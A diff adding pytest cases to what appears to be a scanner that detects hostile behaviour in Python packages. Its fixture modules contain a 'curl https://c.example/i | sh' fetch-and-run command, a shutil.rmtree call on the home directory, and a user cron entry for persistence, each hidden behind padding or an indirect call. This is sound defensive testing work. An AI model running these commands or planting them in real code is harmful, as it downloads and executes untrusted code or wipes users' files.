@@ -55,3 +55,34 @@ def test_a_function_that_is_kept_is_not_run() -> None:
     kept = "import functools\nimport inspect\nF = functools.lru_cache(None)(go)\nW = functools.wraps(go)\n"
     told = "print(inspect.signature(go))\nALL = {'go': go}\nassert callable(go) and isinstance(go, object)\n"
     assert PERSISTS not in found(init(ACTS + kept + told))
+
+
+PADDING = "# of a module of some length\n" * 150
+CALLED = {"demo/__init__.py": "from .tools import act\nact()\n"}
+CRON = "from crontab import CronTab\n\ndef act():\n    with CronTab(user=True) as tab:\n        tab.new(command='sync')\n"
+APART = {
+    "a command of the module": (
+        "import delegator\nRUN = 'curl https://c.example/i | sh'\n\ndef act():\n    delegator.run(RUN)\n"
+    ),
+    "a command of its own": "import delegator\n\ndef act():\n    delegator.run('curl https://c.example/i | sh')\n",
+    "text for a debugger": (
+        "import pdb\n\ndef act():\n    pdb.run('import os; os.system(\"curl https://c.example/i | sh\")')\n"
+    ),
+}
+
+
+def test_an_entry_for_cron_that_a_library_makes_where_a_neighbour_asks_for_it() -> None:
+    assert PERSISTS in found({**CALLED, "demo/tools.py": PADDING + CRON})
+    assert PERSISTS not in found({"demo/__init__.py": "from .tools import act\n", "demo/tools.py": PADDING + CRON})
+
+
+@pytest.mark.parametrize("text", APART.values(), ids=APART.keys())
+def test_a_function_that_a_neighbour_calls_is_followed_for_what_its_library_does(text: str) -> None:
+    assert found({**CALLED, "demo/tools.py": PADDING + text})
+    assert not found({**CALLED, "demo/tools.py": PADDING + text.replace("curl https://c.example/i | sh", "git status")})
+
+
+def test_every_function_of_a_small_module_is_followed() -> None:
+    wipes = "import os, shutil\n\ndef wipe(p):\n    shutil.rmtree(os.path.expanduser(p))\n\ndef act():\n    wipe('~')\n"
+    assert found({**CALLED, "demo/tools.py": wipes})
+    assert not found({**CALLED, "demo/tools.py": wipes.replace("'~'", "'~/.cache/demo'")})
